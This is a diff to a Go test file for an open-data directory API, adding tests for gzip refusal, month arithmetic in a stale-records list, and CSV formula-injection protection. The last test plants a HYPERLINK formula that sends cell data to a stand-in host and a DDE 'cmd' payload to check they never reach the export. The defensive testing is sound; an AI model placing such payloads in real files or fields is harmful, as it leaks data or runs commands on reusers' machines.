@@ -1,46 +1,18 @@
 package api_test
 
 import (
+	"encoding/csv"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 
 	"carnet/api/apitest"
+	"carnet/models"
 )
 
-// sec11 (guard): a phone a structure added while its contacts are hidden
-// never reaches the export nor the public record when its producer imports
-// the place again (the import writes the file's contacts, which are open
-// data, and makes them public; it does not publish the hidden ones).
-func TestSec11ImportNeverPublishesHiddenPhone(t *testing.T) {
-	e := apitest.New(t)
-	row := func(name string) []obj {
-		return []obj{{"id": "k-1", "nom": name, "pivot": "00000000000000", "commune": "Gap", "code_postal": "05000",
-			"adresse": "3 rue Colonel Roux", "date_maj": "2023-05-01", "services": "Aide aux démarches administratives"}}
-	}
-	imp := func(rows []obj) {
-		t.Helper()
-		r := e.Do(apitest.Request{Method: "POST", Path: "/api/v1/sync/hub/import", Token: e.Admin, Body: rows})
-		if r.Code != 200 {
-			t.Fatalf("import: %d %s", r.Code, r.Body)
-		}
-	}
-	imp(row("Maison France services de Gap"))
-	actor := get(t, e, "/api/v1/actors?source=hub")["data"].([]any)[0].(obj)
-	a := "/api/v1/actors/" + str(actor["id"])
-	if r := e.Do(apitest.Request{Method: "PATCH", Path: a, Token: e.Admin, Body: obj{"phones": []string{"06 12 34 56 78"}, "contact_public": false}}); r.Code != 200 {
-		t.Fatalf("PATCH: %d %s", r.Code, r.Body)
-	}
-	imp(row("Maison France Services de Gap"))
-	r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/standard-csv"})
-	if strings.Contains(r.Body.String(), "612345678") {
-		t.Errorf("the hidden phone is in the export after the import")
-	}
-	if r := e.Do(apitest.Request{Method: "GET", Path: a}); strings.Contains(r.Body.String(), "612345678") {
-		t.Errorf("the hidden phone is public after the import: %s", r.Body)
-	}
-}
+// Exports: no cell a spreadsheet runs as a formula, conditional requests and
+// staleness by the right day and clock, compression as the client asks.
 
 // sec11 (guard): the standard's telephone column is left unprotected by
 // FormulaSafe because an E.164 phone starts with +; a file's cell that is
@@ -170,5 +142,133 @@ func TestSec11ExportStaleTurnsAtTheClocksMidnight(t *testing.T) {
 	set(time.Date(2026, 12, 21, 0, 30, 0, 0, time.UTC))
 	if got := stale(); got != "true" {
 		t.Errorf("after UTC's midnight: stale %s, want true", got)
+	}
+}
+
+// sec12: a client that refuses gzip (RFC 9110 §12.4.2: a qvalue of 0 in
+// any of its spellings, the parameter's name in either case) gets the
+// export uncompressed; it used to get gzip bytes it had said it could not
+// read whenever q was written 0.0, 0.00, 0.000 or Q=0.
+func TestSec12ExportHonoursGzipRefusedInEverySpelling(t *testing.T) {
+	e := apitest.New(t)
+	createActor(t, e, validActor("Médiathèque"))
+	for _, ae := range []string{"gzip;q=0", "gzip;q=0.0", "gzip;q=0.00", "gzip;q=0.000", "gzip; Q=0", "GZIP;q=0.0", "gzip ; q=0", "identity, gzip;q=0.00", "br, gzip;level=1;q=0"} {
+		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/standard-csv", Header: map[string]string{"Accept-Encoding": ae}})
+		if r.Code != 200 || r.Header().Get("Content-Encoding") != "" {
+			t.Errorf("Accept-Encoding %q: %d, Content-Encoding %q, want 200 uncompressed", ae, r.Code, r.Header().Get("Content-Encoding"))
+		}
+	}
+	for _, ae := range []string{"gzip", "gzip;q=0.5", "deflate, gzip;q=1.0", "GZip", "gzip;q=0.001"} {
+		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/standard-csv", Header: map[string]string{"Accept-Encoding": ae}})
+		if r.Code != 200 || r.Header().Get("Content-Encoding") != "gzip" {
+			t.Errorf("Accept-Encoding %q: %d, Content-Encoding %q, want 200 gzip", ae, r.Code, r.Header().Get("Content-Encoding"))
+		}
+	}
+}
+
+// sec17: the coordinators' list of records to check again (issue 11, item
+// 5: « not checked for 12 months ») filtered by the store's clock but
+// counted months_since_check and the quality's freshness with the wall
+// clock of the handler, so the two disagreed whenever the clocks did (a
+// test's clock, a replica's); and the cutoff, today minus N months by
+// time.AddDate, ran over the end of a shorter month: on 30 March, with
+// months=1, a record checked on 1 March (not yet a month ago) was listed.
+// The edges: checked exactly N months ago is still fresh, listed from the
+// next day; a record checked on 31 January is one month old on 28
+// February.
+func TestSec17StaleListFollowsTheStoreClock(t *testing.T) {
+	var mu sync.Mutex
+	now := time.Date(2027, 3, 30, 10, 0, 0, 0, time.UTC)
+	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
+	e := apitest.New(t, apitest.WithClock(clock), apitest.WithTokenTTL(24*365*time.Hour))
+	dated := func(id, day string) obj {
+		return merge(partnerActor(id, "Lieu "+id), obj{"producer_updated_on": day})
+	}
+	res := syncActors(t, e, "", dated("edge-12", "2026-03-30"), dated("over-12", "2026-03-29"),
+		dated("feb-28", "2027-02-28"), dated("mar-01", "2027-03-01"))
+	for _, r := range res.Results {
+		if r.ID == "" {
+			t.Fatalf("sync: %+v", res)
+		}
+	}
+	type item struct {
+		SourceID         string `json:"source_id"`
+		CheckedOn        string `json:"checked_on"`
+		MonthsSinceCheck int    `json:"months_since_check"`
+		Quality          struct {
+			Stale bool `json:"stale"`
+		} `json:"quality"`
+	}
+	list := func(query string) map[string]item {
+		t.Helper()
+		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/quality/stale?limit=100" + query, Token: e.Admin})
+		if r.Code != 200 {
+			t.Fatalf("%s: %d %s", query, r.Code, r.Body)
+		}
+		var l struct{ Data []item }
+		r.JSON(&l)
+		out := map[string]item{}
+		for _, it := range l.Data {
+			out[it.SourceID] = it
+		}
+		return out
+	}
+	got := list("")
+	if _, ok := got["edge-12"]; ok {
+		t.Errorf("checked exactly 12 months ago: listed %+v", got["edge-12"])
+	}
+	if it, ok := got["over-12"]; !ok || it.MonthsSinceCheck != 12 || !it.Quality.Stale {
+		t.Errorf("checked 12 months and a day ago: %+v (listed %v), want 12 months and stale", it, ok)
+	}
+	got = list("&months=1")
+	if it, ok := got["feb-28"]; !ok || it.MonthsSinceCheck != 1 {
+		t.Errorf("checked on 28 February, on 30 March with months=1: %+v (listed %v), want listed, 1 month", it, ok)
+	}
+	if it, ok := got["mar-01"]; ok {
+		t.Errorf("checked on 1 March, on 30 March with months=1: listed %+v", it)
+	}
+	// The next day, the 12-month edge is over: listed, 12 months, stale.
+	mu.Lock()
+	now = now.Add(24 * time.Hour)
+	mu.Unlock()
+	if it, ok := list("")["edge-12"]; !ok || it.MonthsSinceCheck != 12 || !it.Quality.Stale {
+		t.Errorf("the day after the 12-month edge: %+v (listed %v)", it, ok)
+	}
+}
+
+// TestExportCellsNeverFormulas: the open data CSV export protected the
+// free-text columns it knew of (names, addresses, presentations) but not
+// the others a writer fills freely: a structure's manager setting its
+// « producer » to =HYPERLINK(…), or a partner its source_id, put a formula
+// in the « source » or « id » cell of the public file that every reuser
+// opens in a spreadsheet.
+func TestExportCellsNeverFormulas(t *testing.T) {
+	e := apitest.New(t)
+	a := str(createActor(t, e, validActor("Médiathèque"))["id"])
+	createService(t, e, merge(validService(a, "Atelier"), obj{"status": "published"}))
+	_, mgr := e.Account("gestion@example.fr", map[string]models.Role{a: models.RoleManager}, models.Territory{})
+	formula := `=HYPERLINK("http://x.example/?"&A1,"Cliquez")`
+	if r := e.Do(apitest.Request{Method: "PATCH", Path: "/api/v1/actors/" + a, Token: mgr, ContentType: "application/merge-patch+json",
+		Body: obj{"producer": formula}}); r.Code != 200 {
+		t.Fatalf("producer: %d %s", r.Code, r.Body)
+	}
+	_, partner := e.Partner("Hub", []string{"hub"}, []string{models.ScopeSyncWrite, models.ScopeDirectoryWrite})
+	if r := e.Do(apitest.Request{Method: "PUT", Path: "/api/v1/sync/hub/actors", Token: partner,
+		Body: obj{"actors": []obj{partnerActor("+cmd|' /C calc'!A0", "Point hub")}}}); r.Code != 200 {
+		t.Fatalf("sync: %d %s", r.Code, r.Body)
+	}
+	for _, f := range []string{"standard-csv", "quality-csv"} {
+		r := e.Do(apitest.Request{Method: "GET", Path: "/api/v1/exports/" + f})
+		rows, err := csv.NewReader(strings.NewReader(r.Body.String())).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", f, err)
+		}
+		for _, row := range rows[1:] {
+			for i, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && !strings.HasPrefix(cell, "+33") {
+					t.Errorf("%s: column %s starts a formula: %q", f, rows[0][i], cell)
+				}
+			}
+		}
 	}
 }
